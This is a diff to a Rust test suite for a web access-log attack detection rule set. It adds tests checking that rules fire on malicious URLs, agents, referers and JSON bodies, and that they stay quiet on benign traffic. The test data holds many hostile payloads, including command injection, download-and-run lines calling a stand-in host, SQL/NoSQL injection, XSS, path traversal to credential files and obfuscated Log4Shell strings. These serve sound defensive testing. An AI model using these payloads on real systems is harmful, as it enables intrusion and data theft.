@@ -21,7 +21,7 @@ fn ids(rules: &RuleSet, line: &str) -> Vec<String> {
 #[test]
 fn builtin_rules_compile() {
     let rules = builtin().unwrap();
-    assert_eq!(rules.len(), 16);
+    assert_eq!(rules.len(), 23);
 }
 
 #[test]
@@ -257,7 +257,7 @@ fn pattern_over_the_length_limit_is_refused_naming_rule_and_line() {
 
 #[test]
 fn short_pattern_that_compiles_huge_is_refused_naming_rule() {
-    let text = "rules:\n  - id: \"100003\"\n    level: 5\n    description: huge\n    match:\n      url: { regex: '\\w{300}\\w{300}\\w{300}' }\n";
+    let text = "rules:\n  - id: \"100003\"\n    level: 5\n    description: huge\n    match:\n      url: { regex: '(?u)\\w{300}\\w{300}\\w{300}' }\n";
     let err = RuleSet::parse(text).unwrap_err().to_string();
     assert!(
         err.starts_with("line 2: rule 100003: field 'url': invalid regex:"),
@@ -348,4 +348,297 @@ fn frequency_windows_keyed_by_source_ip_stay_bounded_and_expire() {
         "{} windows left after expiry",
         state.len()
     );
+}
+
+fn combined(request: &str, referer: &str, agent: &str) -> String {
+    format!(
+        r#"203.0.113.7 - - [23/Nov/2026:03:24:25 +0000] "{request}" 200 612 "{referer}" "{agent}""#
+    )
+}
+
+/// Every id `url` raises, with a browser's agent and no referer.
+fn url_ids(rules: &RuleSet, url: &str) -> Vec<String> {
+    ids(
+        rules,
+        &access(url, "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", 200),
+    )
+}
+
+#[test]
+fn each_family_catches_its_edge_cases() {
+    let rules = builtin().unwrap();
+    let cases = [
+        // command injection: absolute paths, shell tricks
+        ("/p?h=1;/usr/bin/id", "93130"),
+        ("/p?h=1|%20/bin/sleep%2031%20;", "93130"),
+        ("/p?h=1;$SHELL%20-c%20id", "93130"),
+        ("/p?h=1;alias%20x=env", "93130"),
+        ("/p?h=1;c{a,oun}t%20x", "93130"),
+        ("/p?h=1;cat%20/etc/pa[s]swd", "93130"),
+        ("/p?h=1;time%20sh%20-c%20id", "93130"),
+        // Windows cmd, PowerShell, download tools
+        ("/p?h=x%26FOR%20/F%20%25i%20in%20(a)%20do%20b", "93131"),
+        ("/p?h=x%26IF%20EXIST%20c:\\boot.ini%20echo", "93131"),
+        ("/p?h=x%0Bdir%20c:\\", "93131"),
+        ("/p?h=x|ping.exe%20-n%2021%20127.0.0.1", "93131"),
+        ("/p?h=x%26ver", "93131"),
+        ("/p?h=x%26type%20c:\\windows\\win.ini", "93131"),
+        ("/p?h=x;powershell%20-enc%20SQBFAFgA", "93131"),
+        ("/p?h=x;iwr%20http://e.example/a.ps1%20|%20iex", "93131"),
+        ("/p?h=x;Invoke-WebRequest%20-Uri%20x", "93131"),
+        ("/p?h=x%26certutil%20-urlcache%20-f%20http://e/a", "93131"),
+        ("/p?h=x%26mshta%20http://e.example/a.hta", "93131"),
+        ("/p?h=x%26bitsadmin%20/transfer%20j%20http://e/a", "93131"),
+        // SQL
+        ("/i?id=1::int", "93100"),
+        ("/i?id=1'::jsonb%20@>%20'{}'", "93100"),
+        ("/i?id=1;select%20lo_import('/etc/passwd')", "93100"),
+        ("/i?id=1%20and%20pg_sleep(a)", "93100"),
+        (
+            "/i?id=1%20and%201=like('ABCDEFG',upper(hex(randomblob(5))))",
+            "93100",
+        ),
+        ("/i?id=1;INSERT%20INTO%20users%20VALUES(1)", "93100"),
+        ("/i?id=1;CREATE%20FUNCTION%20x()", "93100"),
+        ("/i?id=1;REPLACE%20INTO%20t%20VALUES(1)", "93100"),
+        (
+            "/i?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%201,2",
+            "93100",
+        ),
+        ("/i?id=1%20HAVING%20COUNT(*)>1", "93100"),
+        ("/i?id=1;EXECUTE%20IMMEDIATE%20'x'", "93100"),
+        ("/i?id=1'", "93100"),
+        ("/i?id=1')--", "93100"),
+        // NoSQL
+        ("/login?user[$ne]=x&pass[$ne]=y", "93101"),
+        ("/login?user[$gt]=", "93101"),
+        ("/q?$where=sleep(100)", "93101"),
+        // XSS
+        ("/s?q=<video%20onend=alert(1)>", "93110"),
+        ("/s?q=<body%20onzoom=alert(1)>", "93110"),
+        ("/s?q=<x%20onwebkitanimationend=alert(1)>", "93110"),
+        ("/s?q=<button%20formaction=javascript:alert(1)>", "93110"),
+        ("/s?q=<layer%20src=x>", "93110"),
+        ("/s?q=<xml%20id=x>", "93110"),
+        ("/s?q=<span%20datasrc=%23x%20datafld=a>", "93110"),
+        ("/s?q=<p%20style=behavior:url(x.htc)>", "93110"),
+        ("/s?q=x{-moz-binding:url(x)}", "93110"),
+        ("/s?q=setTimeout('al'%2B'ert(1)')", "93110"),
+        ("/s?q=new%20Function('x')()", "93110"),
+        ("/s?q=Reflect.apply(alert,null,[1])", "93110"),
+        ("/s?q=%2BADw-script%2BAD4-alert(1)", "93110"),
+        ("/s?q=%26lt;script%26gt;alert(1)", "93110"),
+        // PHP
+        ("/p?c=<?php%20system('id');%20?>", "93132"),
+        ("/p?c=(system)('uname')", "93132"),
+        ("/p?c=$_SERVER['x']", "93132"),
+        ("/p?c=base64_decode('aWQ=')", "93132"),
+        ("/p?d=O:8:%22stdClass%22:1:{s:1:%22a%22;i:1;}", "93132"),
+        ("/p?f=compress.zlib://x", "93132"),
+        (
+            "/p?f=php://filter/convert.base64-encode/resource=index",
+            "93132",
+        ),
+        // files
+        ("/.ssh/id_rsa", "93122"),
+        ("/.claude/settings.json", "93122"),
+        ("/.cursor/mcp.json", "93122"),
+        ("/.vscode/sftp.json", "93122"),
+        ("/backup/site.sql.zip", "93122"),
+        ("/index.php.bak", "93122"),
+        ("/logs/error.log", "93122"),
+        ("/x?f=/proc/self/cwd/app.py", "93120"),
+        ("/x?f=/sys/class/net/eth0/address", "93120"),
+        ("/x?f=c:/inetpub/wwwroot/global.asa", "93120"),
+        ("/x?f=0x2e0x2e0x2fetc", "93120"),
+        ("/x?f=..0x2fetc", "93120"),
+        ("/x?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc", "93120"),
+        // RFI and SSRF
+        ("/index.php?page=http://e.example/shell.txt", "93121"),
+        ("/x.php?mosConfig_absolute_path=http://e.example/x", "93121"),
+        ("/f?u=gopher://127.0.0.1:6379/_x", "93123"),
+        ("/f?u=dict://127.0.0.1:11211/", "93123"),
+        ("/f?u=ldap://e.example/a", "93123"),
+        ("/f?u=http://a%2f@b.example/", "93124"),
+        // Log4Shell, obfuscated
+        ("/?x=%26%23x24;{jndi:ldap://e/a}", "93150"),
+        ("/?x=${${lower:j}${lower:n}di:ldap://e/a}", "93150"),
+        ("/?x=${${::-j}ndi:rmi://e/a}", "93150"),
+    ];
+    assert_each_url(&rules, &cases, |found, expected| {
+        found.iter().any(|id| id == expected)
+    });
+}
+
+/// Every `(url, expected)` for which `holds(ids raised, expected)` fails,
+/// listed in one assertion.
+fn assert_each_url(
+    rules: &RuleSet,
+    cases: &[(&str, &str)],
+    holds: impl Fn(&[String], &str) -> bool,
+) {
+    let failed: Vec<String> = cases
+        .iter()
+        .filter_map(|(url, expected)| {
+            let found = url_ids(rules, url);
+            (!holds(&found, expected)).then(|| format!("{url} (want {expected:?}): {found:?}"))
+        })
+        .collect();
+    assert!(failed.is_empty(), "failed:\n{}", failed.join("\n"));
+}
+
+#[test]
+fn the_false_positives_seen_on_real_traffic_stay_quiet() {
+    let rules = builtin().unwrap();
+    let benign = [
+        // return/redirect parameters whose URL ends in a script (RFI rule)
+        "/login?return=https://shop.example.com/cart.php",
+        "/sso?redirect=http://intranet.example.com/index.jsp",
+        "/out?next=https%3A%2F%2Fexample.org%2Fcgi-bin%2Fsearch.pl",
+        "/auth?continue=https://example.com/account.php&lang=en",
+        // analytics beacons
+        "/collect?v=1&dl=javascript:;&t=event",
+        "/b?href=javascript:void(0)&ev=click",
+        "/b?href=javascript%3Avoid(0)%3B",
+        // titles (SQL rule)
+        "/track?title=Best%20of%202024%20(Part%202)%20%23music",
+        "/track?title=%22Hello%22--%20a%20song",
+        "/shop?q=dual%20sim%20phone",
+        "/p?title=Dual",
+        // ordinary shapes near the new patterns
+        "/search?q=online+shopping&once=1",
+        "/api?online=true&onsale=1",
+        "/search?q=how+to+use+bash+-c",
+        "/docs/std::string",
+        "/ipv6?addr=fe80::1",
+        "/download/release-1.2.zip",
+        "/search?q=system+(linux)",
+        "/search?q=type+of+dir+in+windows",
+        "/@user/posts",
+        "/share?url=https://mastodon.social/@user",
+        "/blog/the-sys-admin-handbook",
+        "/wiki/Special:Search?search=c%2B%2B+templates",
+        "/search?q=%D7%A9%D7%9C%D7%95%D7%9D+%D7%A2%D7%95%D7%9C%D7%9D",
+        "/search?q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82",
+        "/search?q=rock+%26+roll&type=song",
+        "/feed?format=json&callback=cb",
+        "/img/logo.png?v=3",
+    ];
+    let cases: Vec<(&str, &str)> = benign.iter().map(|url| (*url, "")).collect();
+    assert_each_url(&rules, &cases, |found, _| found.is_empty());
+}
+
+#[test]
+fn attacks_in_the_agent_and_the_referer_say_which_field() {
+    let rules = builtin().unwrap();
+    let cases = [
+        ("Mozilla/5.0' AND SLEEP(5)-- x", "-", "93100", "user_agent"),
+        ("<script>alert(1)</script>", "-", "93110", "user_agent"),
+        ("() { :; }; /bin/bash -c id", "-", "93160", "user_agent"),
+        (
+            "x",
+            "https://e.example/?q=1 union select 1,2--",
+            "93100",
+            "referer",
+        ),
+        (
+            "x",
+            "https://e.example/../../etc/passwd",
+            "93120",
+            "referer",
+        ),
+        ("x;/usr/bin/id", "-", "93130", "user_agent"),
+    ];
+    for (agent, referer, id, field) in cases {
+        let line = combined("GET / HTTP/1.1", referer, agent);
+        let fields = decode(&line, &UserDecoders::default());
+        let matches = rules.evaluate(&fields, 0, &mut FrequencyState::default());
+        let hit = matches.iter().find(|m| m.id == id);
+        assert!(hit.is_some(), "{agent} / {referer}: {matches:?}");
+        assert_eq!(hit.unwrap().payload_field.as_deref(), Some(field));
+    }
+    // Browsers, bots and tools as they are.
+    for agent in [
+        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
+        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; .NET CLR 2.0.50727)",
+        "python-requests/2.31.0",
+        "Go-http-client/1.1",
+        "Prometheus/2.48.0",
+        "kube-probe/1.28",
+        "Wget/1.21.3",
+    ] {
+        let line = combined(
+            "GET / HTTP/1.1",
+            "https://www.google.com/search?q=jaga+docker&oq=jaga",
+            agent,
+        );
+        assert!(ids(&rules, &line).is_empty(), "{agent}");
+    }
+}
+
+#[test]
+fn a_raw_space_in_the_request_line_keeps_its_payload_and_is_flagged() {
+    let rules = builtin().unwrap();
+    let found = ids(
+        &rules,
+        &combined("GET /a.php?id=1 union select 1,2-- HTTP/1.1", "-", "x"),
+    );
+    assert!(found.contains(&"93100".to_owned()), "{found:?}");
+    assert!(found.contains(&"93175".to_owned()), "{found:?}");
+}
+
+#[test]
+fn a_condition_on_several_fields_names_the_one_that_matched() {
+    let text = "rules:\n  - id: \"1\"\n    level: 5\n    description: d\n    match:\n      url|user_agent: { regex: 'evil' }\n";
+    let rules = RuleSet::parse(text).unwrap();
+    let fields = decode(&access("/ok", "evil-agent", 200), &UserDecoders::default());
+    let matches = rules.evaluate(&fields, 0, &mut FrequencyState::default());
+    assert_eq!(matches[0].payload_field.as_deref(), Some("user_agent"));
+    let fields = decode(&access("/evil", "evil", 200), &UserDecoders::default());
+    let matches = rules.evaluate(&fields, 0, &mut FrequencyState::default());
+    assert_eq!(matches[0].payload_field.as_deref(), Some("url"));
+    let err = RuleSet::parse(&text.replace("url|user_agent", "url||x")).unwrap_err();
+    assert!(err.to_string().contains("a field name is empty"), "{err}");
+}
+
+#[test]
+fn json_logs_are_matched_in_body_and_headers() {
+    let rules = builtin().unwrap();
+    let cases = [
+        (
+            r#"{"req":{"method":"POST","url":"/login","body":{"user":{"$ne":null},"pass":{"$ne":null}}}}"#,
+            "93101",
+            "body",
+        ),
+        (
+            r#"{"method":"POST","uri":"/c","request_body":"name=x';DROP TABLE users;--"}"#,
+            "93100",
+            "body",
+        ),
+        (
+            r#"{"req":{"url":"/","headers":{"x-api-version":"${jndi:ldap://e.example/a}"}}}"#,
+            "93150",
+            "headers",
+        ),
+        (
+            r#"{"req":{"url":"/","headers":{"user-agent":"<script>alert(1)</script>"}}}"#,
+            "93110",
+            "user_agent",
+        ),
+    ];
+    for (line, id, field) in cases {
+        let fields = decode(line, &UserDecoders::default());
+        let matches = rules.evaluate(&fields, 0, &mut FrequencyState::default());
+        let hit = matches.iter().find(|m| m.id == id);
+        assert!(hit.is_some(), "{line}: {matches:?}");
+        assert_eq!(hit.unwrap().payload_field.as_deref(), Some(field), "{line}");
+    }
+    let quiet = r#"{"req":{"method":"POST","url":"/api/orders","headers":{"accept":"application/json","cookie":"sid=abc; theme=dark"},"body":{"items":[{"id":1,"qty":2}],"note":"leave at the door"}}}"#;
+    let fields = decode(quiet, &UserDecoders::default());
+    assert!(rules
+        .evaluate(&fields, 0, &mut FrequencyState::default())
+        .is_empty());
 }
